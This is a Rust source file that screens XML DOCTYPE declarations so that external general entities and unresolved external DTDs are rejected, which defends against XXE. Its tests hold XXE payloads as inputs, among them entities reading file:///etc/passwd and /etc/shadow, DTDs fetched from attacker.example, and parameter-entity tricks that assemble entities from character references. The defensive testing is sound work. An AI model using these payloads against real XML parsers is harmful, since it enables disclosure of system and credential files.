#![forbid(unsafe_code)]

//! DOCTYPE screening.
//!
//! Runs over the raw text before any tree is built. DTD declarations are
//! never applied to the document; the screen only makes sure that every
//! external identifier a DOCTYPE reaches is served by the entity resolver
//! and that no external general entity is declared.
//!
//! Markup is tokenized with `xmlparser`. Parameter-entity references
//! between declarations are not tokens there, so they are blanked out
//! before a run of declarations is handed to the tokenizer.

use std::collections::HashSet;
use std::ops::Range;

use ulriksdal_core::Result;
use ulriksdal_xml::ParserLimits;
use xmlparser::{EntityDefinition, ExternalId, StrSpan, Token, Tokenizer};

use crate::catalog::{is_uri_conformant, EntityResolver};
use crate::diagnostics::{Diagnostic, ErrorHandler};
use crate::features::Features;

/// Nesting bound for external DTDs reached through other DTDs.
const MAX_DTD_DEPTH: usize = 8;

/// A document type declaration as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Doctype<'a> {
    pub name: &'a str,
    pub public_id: Option<&'a str>,
    pub system_id: Option<&'a str>,
    pub internal_subset: Option<&'a str>,
}

/// Locate the DOCTYPE in the prolog of `text`.
///
/// Returns `Ok(None)` when the prolog ends without one.
pub fn find_doctype(text: &str) -> std::result::Result<Option<Doctype<'_>>, String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    for token in Tokenizer::from(text) {
        match token.map_err(|e| e.to_string())? {
            Token::Declaration { .. }
            | Token::ProcessingInstruction { .. }
            | Token::Comment { .. } => {}
            Token::EmptyDtd {
                name, external_id, ..
            } => return Ok(Some(Doctype::new(name, external_id, None))),
            Token::DtdStart {
                name,
                external_id,
                span,
            } => {
                let start = subset_start(text, span);
                let end = Declarations::scan(&text[start..])?
                    .end
                    .ok_or("unterminated internal subset")?;
                let subset = &text[start..start + end];
                return Ok(Some(Doctype::new(name, external_id, Some(subset))));
            }
            _ => return Ok(None),
        }
    }
    Ok(None)
}

impl<'a> Doctype<'a> {
    fn new(
        name: StrSpan<'a>,
        id: Option<ExternalId<'a>>,
        internal_subset: Option<&'a str>,
    ) -> Self {
        let ids = id.map(identifiers);
        Self {
            name: name.as_str(),
            public_id: ids.and_then(|(public_id, _)| public_id),
            system_id: ids.map(|(_, system_id)| system_id),
            internal_subset,
        }
    }
}

fn identifiers(id: ExternalId<'_>) -> (Option<&str>, &str) {
    match id {
        ExternalId::System(system) => (None, system.as_str()),
        ExternalId::Public(public, system) => (Some(public.as_str()), system.as_str()),
    }
}

/// Offset just past the `[` that opens the internal subset.
fn subset_start(text: &str, span: StrSpan<'_>) -> usize {
    let end = span.end();
    if span.as_str().ends_with('[') {
        end
    } else {
        text[end..].find('[').map_or(end, |i| end + i + 1)
    }
}

/// `xmlparser` reports both entity kinds with the same token.
fn is_parameter_entity(span: StrSpan<'_>) -> bool {
    span.as_str()
        .strip_prefix("<!ENTITY")
        .is_some_and(|rest| rest.trim_start().starts_with('%'))
}

/// A run of markup declarations with its parameter-entity references
/// replaced by spaces.
struct Declarations {
    masked: String,
    /// Offset of the `]` that ended the run, if one did.
    end: Option<usize>,
}

impl Declarations {
    fn scan(text: &str) -> std::result::Result<Self, String> {
        let mut blanks: Vec<Range<usize>> = Vec::new();
        let mut pos = 0;
        if is_text_declaration(text) {
            pos = skip_past(text, 0, "?>")?;
            blanks.push(0..pos);
        }
        let end = loop {
            let rest = text[pos..].trim_start_matches(|c: char| c.is_ascii_whitespace());
            pos = text.len() - rest.len();
            if rest.is_empty() {
                break None;
            }
            pos = if rest.starts_with("<!--") {
                skip_past(text, pos + 4, "-->")?
            } else if rest.starts_with("<![") {
                return Err("conditional sections are not supported".into());
            } else if rest.starts_with("<?") {
                skip_past(text, pos + 2, "?>")?
            } else if rest.starts_with("<!") {
                declaration_end(text, pos)?
            } else if rest.starts_with('%') {
                let len = reference_len(rest).ok_or_else(|| {
                    format!("malformed parameter-entity reference at offset {pos}")
                })?;
                blanks.push(pos..pos + len);
                pos + len
            } else if rest.starts_with(']') {
                break Some(pos);
            } else {
                return Err(format!("unexpected content in DTD at offset {pos}"));
            };
        };

        let stop = end.unwrap_or(text.len());
        let mut masked = String::with_capacity(stop);
        let mut copied = 0;
        for blank in blanks {
            masked.push_str(&text[copied..blank.start]);
            masked.push_str(&" ".repeat(blank.end - blank.start));
            copied = blank.end;
        }
        masked.push_str(&text[copied..stop]);
        Ok(Self { masked, end })
    }

    /// Like [`Declarations::scan`], but all of `text` must be declarations.
    fn complete(text: &str) -> std::result::Result<String, String> {
        let declarations = Self::scan(text)?;
        match declarations.end {
            Some(pos) => Err(format!("unexpected ']' in DTD at offset {pos}")),
            None => Ok(declarations.masked),
        }
    }
}

fn is_text_declaration(text: &str) -> bool {
    text.strip_prefix("<?xml")
        .is_some_and(|rest| rest.starts_with([' ', '\t', '\r', '\n']))
}

fn skip_past(text: &str, from: usize, end: &str) -> std::result::Result<usize, String> {
    text[from..]
        .find(end)
        .map(|i| from + i + end.len())
        .ok_or_else(|| format!("'{end}' expected"))
}

/// Offset just past the `>` ending the declaration at `pos`, honouring
/// quoted literals.
fn declaration_end(text: &str, pos: usize) -> std::result::Result<usize, String> {
    let mut quote = None;
    for (i, c) in text[pos..].char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, '>') => return Ok(pos + i + 1),
            _ => {}
        }
    }
    Err("unterminated markup declaration".into())
}

/// Length of the `%name;` at the start of `rest`.
fn reference_len(rest: &str) -> Option<usize> {
    let name = &rest[1..];
    let len = name
        .find(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '%' | '\'' | '"' | '<' | '>' | '[' | ']')
        })
        .unwrap_or(name.len());
    (len > 0 && name[len..].starts_with(';')).then_some(len + 2)
}

/// Screens DOCTYPEs and the DTDs they reach.
pub struct DoctypeScreen<'a> {
    resolver: &'a dyn EntityResolver,
    handler: &'a dyn ErrorHandler,
    features: &'a Features,
    limits: &'a ParserLimits,
    visited: HashSet<String>,
}

impl<'a> DoctypeScreen<'a> {
    pub fn new(
        resolver: &'a dyn EntityResolver,
        handler: &'a dyn ErrorHandler,
        features: &'a Features,
        limits: &'a ParserLimits,
    ) -> Self {
        Self {
            resolver,
            handler,
            features,
            limits,
            visited: HashSet::new(),
        }
    }

    /// Screen the prolog of `text`, read from `system_id`.
    pub fn screen(&mut self, text: &str, system_id: &str) -> Result<()> {
        let doctype = match find_doctype(text) {
            Ok(Some(doctype)) => doctype,
            Ok(None) => return Ok(()),
            Err(message) => return self.fatal(system_id, message),
        };
        if self.features.disallow_doctype {
            return self.fatal(system_id, "DOCTYPE is disallowed".to_owned());
        }
        tracing::debug!(
            name = doctype.name,
            public_id = ?doctype.public_id,
            system_id = ?doctype.system_id,
            "screening DOCTYPE"
        );
        if let Some(subset) = doctype.internal_subset {
            let mut declared = 0;
            self.scan(subset, system_id, 0, Some(&mut declared))?;
        }
        if let Some(external) = doctype.system_id {
            self.external(doctype.public_id, external, system_id, 0)?;
        }
        Ok(())
    }

    fn fatal(&self, system_id: &str, message: String) -> Result<()> {
        self.handler
            .report(Diagnostic::fatal(message).in_resource(system_id))
    }

    /// Resolve and scan an external DTD or parameter entity.
    fn external(
        &mut self,
        public_id: Option<&str>,
        identifier: &str,
        origin: &str,
        depth: usize,
    ) -> Result<()> {
        if self.features.uri_conformant && !is_uri_conformant(identifier) {
            return self.fatal(
                origin,
                format!("system identifier '{identifier}' is not a valid URI"),
            );
        }
        if depth >= MAX_DTD_DEPTH {
            return self.fatal(
                origin,
                format!("external DTDs nested deeper than {MAX_DTD_DEPTH} levels"),
            );
        }
        let resource = self.resolver.resolve(public_id, identifier)?;
        if !self.visited.insert(resource.location.clone()) {
            return Ok(());
        }
        let text = resource.text()?.to_owned();
        self.scan(&text, &resource.location, depth + 1, None)
    }

    /// Scan markup declarations. `declared` counts entity declarations
    /// when scanning an internal subset.
    fn scan(
        &mut self,
        text: &str,
        origin: &str,
        depth: usize,
        mut declared: Option<&mut usize>,
    ) -> Result<()> {
        let masked = match Declarations::complete(text) {
            Ok(masked) => masked,
            Err(message) => return self.fatal(origin, message),
        };
        let wrapped = format!("<!DOCTYPE dtd [{masked}]>");
        for token in Tokenizer::from(wrapped.as_str()) {
            match token {
                Ok(Token::EntityDeclaration {
                    name,
                    definition,
                    span,
                }) => {
                    if let Some(count) = declared.as_deref_mut() {
                        *count += 1;
                        if *count > self.limits.max_entity_declarations {
                            return self.fatal(
                                origin,
                                format!(
                                    "more than {} entity declarations",
                                    self.limits.max_entity_declarations
                                ),
                            );
                        }
                    }
                    let parameter = is_parameter_entity(span);
                    self.entity(name.as_str(), parameter, definition, origin, depth)?;
                }
                Ok(Token::DtdEnd { .. }) => return Ok(()),
                Ok(_) => {}
                Err(e) => {
                    return self.fatal(origin, format!("malformed markup declaration: {e}"));
                }
            }
        }
        Ok(())
    }

    fn entity(
        &mut self,
        name: &str,
        parameter: bool,
        definition: EntityDefinition<'_>,
        origin: &str,
        depth: usize,
    ) -> Result<()> {
        let (public_id, system_id) = match definition {
            EntityDefinition::ExternalId(id) => identifiers(id),
            EntityDefinition::EntityValue(value) => {
                // Replacement text that builds further declarations is screened too.
                if parameter {
                    let expanded = expand_char_refs(value.as_str());
                    if expanded.contains("<!") {
                        if depth >= MAX_DTD_DEPTH {
                            return self.fatal(
                                origin,
                                format!("parameter entity '{name}' nests too deeply"),
                            );
                        }
                        return self.scan(&expanded, origin, depth + 1, None);
                    }
                }
                return Ok(());
            }
        };
        if !parameter {
            return self.fatal(
                origin,
                format!("external general entity '{name}' ({system_id}) is not allowed"),
            );
        }
        tracing::debug!(name, system_id, "resolving external parameter entity");
        self.external(public_id, system_id, origin, depth)
    }
}

/// Replace `&#N;` and `&#xN;` references; other text is copied.
fn expand_char_refs(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = rest.find("&#") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let decoded = after.find(';').and_then(|end| {
            let digits = &after[..end];
            let code = match digits.strip_prefix('x') {
                Some(hex) => u32::from_str_radix(hex, 16).ok(),
                None => digits.parse().ok(),
            };
            code.and_then(char::from_u32).map(|c| (c, end))
        });
        match decoded {
            Some((c, end)) => {
                out.push(c);
                rest = &after[end + 1..];
            }
            None => {
                out.push_str("&#");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;

    use ulriksdal_core::Error;

    use super::*;
    use crate::catalog::SchemaCatalog;
    use crate::diagnostics::FailClosed;
    use crate::resource::Resource;

    /// Records every identifier it is asked for and resolves none.
    #[derive(Default)]
    struct Recording(Mutex<Vec<String>>);

    impl EntityResolver for Recording {
        fn resolve(&self, _public_id: Option<&str>, system_id: &str) -> Result<Resource> {
            self.0.lock().unwrap().push(system_id.to_owned());
            Err(Error::UnresolvableEntity(system_id.to_owned()))
        }
    }

    fn screen_with(resolver: &dyn EntityResolver, text: &str) -> Result<()> {
        let features = Features::default();
        let limits = ParserLimits::default();
        DoctypeScreen::new(resolver, &FailClosed, &features, &limits).screen(text, "doc.xml")
    }

    #[test]
    fn test_find_doctype() {
        let text = r#"<?xml version="1.0"?>
<!-- header -->
<!DOCTYPE schema PUBLIC "-//W3C//DTD XMLSchema 200102//EN" "XMLSchema.dtd" [
  <!ENTITY dsig 'http://www.w3.org/2000/09/xmldsig#'>
]>
<schema/>"#;
        let doctype = find_doctype(text).unwrap().unwrap();
        assert_eq!(doctype.name, "schema");
        assert_eq!(doctype.public_id, Some("-//W3C//DTD XMLSchema 200102//EN"));
        assert_eq!(doctype.system_id, Some("XMLSchema.dtd"));
        assert!(doctype.internal_subset.unwrap().contains("<!ENTITY dsig"));
    }

    #[test]
    fn test_no_doctype() {
        assert_eq!(find_doctype("<?xml version='1.0'?><a/>").unwrap(), None);
        assert!(screen_with(&SchemaCatalog::default(), "<a/>").is_ok());
    }

    #[test]
    fn test_bundled_schema_dtd_chain_resolves() {
        let text = r#"<!DOCTYPE schema PUBLIC "-//W3C//DTD XMLSCHEMA 200102//EN" "http://www.w3.org/2001/XMLSchema.dtd" [
   <!ENTITY % p ''>
   <!ENTITY % s ''>
  ]><schema/>"#;
        assert!(screen_with(&SchemaCatalog::default(), text).is_ok());
    }

    #[test]
    fn test_external_general_entity_rejected() {
        let text = r#"<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>"#;
        let recording = Recording::default();
        let err = screen_with(&recording, text).unwrap_err();
        assert!(matches!(err, Error::Parse(msg) if msg.contains("xxe")));
        assert!(recording.0.lock().unwrap().is_empty());
    }

    #[test]
    fn test_unknown_external_dtd_is_unresolvable() {
        let text = r#"<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>"#;
        let recording = Recording::default();
        let err = screen_with(&recording, text).unwrap_err();
        assert!(matches!(err, Error::UnresolvableEntity(_)));
        assert_eq!(
            *recording.0.lock().unwrap(),
            vec!["http://attacker.example/a.dtd".to_owned()]
        );
    }

    #[test]
    fn test_external_parameter_entity_goes_through_resolver() {
        let text = r#"<!DOCTYPE a [<!ENTITY % ext SYSTEM "http://attacker.example/p.dtd"> %ext;]><a/>"#;
        let err = screen_with(&SchemaCatalog::default(), text).unwrap_err();
        assert!(matches!(err, Error::UnresolvableEntity(id) if id.ends_with("p.dtd")));
    }

    #[test]
    fn test_entity_built_by_parameter_entity_is_screened() {
        let text = r#"<!DOCTYPE a [<!ENTITY % build '&#60;!ENTITY x SYSTEM "file:///etc/hosts"&#62;'> %build;]><a/>"#;
        let err = screen_with(&SchemaCatalog::default(), text).unwrap_err();
        assert!(matches!(err, Error::Parse(msg) if msg.contains("external general entity")));
    }

    #[test]
    fn test_entity_declaration_limit() {
        let mut subset = String::new();
        for i in 0..5 {
            subset.push_str(&format!("<!ENTITY e{i} 'v'>"));
        }
        let text = format!("<!DOCTYPE a [{subset}]><a/>");
        let features = Features::default();
        let limits = ParserLimits {
            max_entity_declarations: 4,
            ..ParserLimits::default()
        };
        let catalog = SchemaCatalog::default();
        let err = DoctypeScreen::new(&catalog, &FailClosed, &features, &limits)
            .screen(&text, "doc.xml")
            .unwrap_err();
        assert!(matches!(err, Error::Parse(_)));
    }

    #[test]
    fn test_non_conformant_system_id() {
        let text = r#"<!DOCTYPE a SYSTEM "c:\dtds\a.dtd"><a/>"#;
        let recording = Recording::default();
        assert!(matches!(
            screen_with(&recording, text),
            Err(Error::Parse(_))
        ));
        assert!(recording.0.lock().unwrap().is_empty());
    }

    #[test]
    fn test_disallowed_doctype() {
        let features = Features {
            disallow_doctype: true,
            ..Features::default()
        };
        let limits = ParserLimits::default();
        let catalog = SchemaCatalog::default();
        let err = DoctypeScreen::new(&catalog, &FailClosed, &features, &limits)
            .screen("<!DOCTYPE a><a/>", "doc.xml")
            .unwrap_err();
        assert!(matches!(err, Error::Parse(_)));
    }

    /// Serves `ext.dtd` and records every request.
    struct Serving {
        dtd: &'static str,
        requests: Mutex<Vec<String>>,
    }

    impl Serving {
        fn new(dtd: &'static str) -> Self {
            Self {
                dtd,
                requests: Mutex::new(Vec::new()),
            }
        }
    }

    impl EntityResolver for Serving {
        fn resolve(&self, _public_id: Option<&str>, system_id: &str) -> Result<Resource> {
            self.requests.lock().unwrap().push(system_id.to_owned());
            if system_id == "http://dtds.example/ext.dtd" {
                Ok(Resource::new(system_id, "ext.dtd", self.dtd.as_bytes()))
            } else {
                Err(Error::UnresolvableEntity(system_id.to_owned()))
            }
        }
    }

    #[test]
    fn test_find_doctype_without_subset() {
        let text = "\u{feff}<!-- c --><!DOCTYPE note PUBLIC \"-//EX//DTD Note//EN\" 'note.dtd'><note/>";
        let doctype = find_doctype(text).unwrap().unwrap();
        assert_eq!(doctype.name, "note");
        assert_eq!(doctype.public_id, Some("-//EX//DTD Note//EN"));
        assert_eq!(doctype.system_id, Some("note.dtd"));
        assert_eq!(doctype.internal_subset, None);
    }

    #[test]
    fn test_internal_subset_ends_at_closing_bracket() {
        let text = r#"<!DOCTYPE a [<!ENTITY x 'a]b'> <!-- ] --> %p;]><a/>"#;
        let doctype = find_doctype(text).unwrap().unwrap();
        assert_eq!(
            doctype.internal_subset,
            Some(r#"<!ENTITY x 'a]b'> <!-- ] --> %p;"#)
        );
    }

    #[test]
    fn test_parameter_references_between_declarations() {
        let resolver = Serving::new(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
             <!ENTITY % inner 'x'>\n\
             %inner;\n\
             <!ELEMENT a (#PCDATA)>\n",
        );
        let text = r#"<!DOCTYPE a [
  <!ENTITY % ext SYSTEM "http://dtds.example/ext.dtd">
  %ext;
  <!ENTITY greeting 'hello'>
]><a>&greeting;</a>"#;
        screen_with(&resolver, text).unwrap();
        assert_eq!(
            *resolver.requests.lock().unwrap(),
            vec!["http://dtds.example/ext.dtd".to_owned()]
        );
    }

    #[test]
    fn test_external_dtd_declaring_general_entity_rejected() {
        let resolver = Serving::new(r#"<!ENTITY leak SYSTEM "file:///etc/shadow">"#);
        let text = r#"<!DOCTYPE a SYSTEM "http://dtds.example/ext.dtd"><a/>"#;
        let err = screen_with(&resolver, text).unwrap_err();
        assert!(matches!(err, Error::Parse(msg) if msg.contains("leak")));
    }

    #[test]
    fn test_conditional_section_rejected() {
        let text = r#"<!DOCTYPE a [<![INCLUDE[<!ENTITY x SYSTEM "file:///etc/passwd">]]>]><a/>"#;
        let err = screen_with(&SchemaCatalog::default(), text).unwrap_err();
        assert!(matches!(err, Error::Parse(msg) if msg.contains("conditional")));
    }

    #[test]
    fn test_replacement_text_cannot_close_subset() {
        let text = r#"<!DOCTYPE a [<!ENTITY % build ']&#62;&#60;!ENTITY x SYSTEM "file:///etc/hosts"&#62;'> %build;]><a/>"#;
        let recording = Recording::default();
        let err = screen_with(&recording, text).unwrap_err();
        assert!(matches!(err, Error::Parse(msg) if msg.contains("']'")));
        assert!(recording.0.lock().unwrap().is_empty());
    }
}
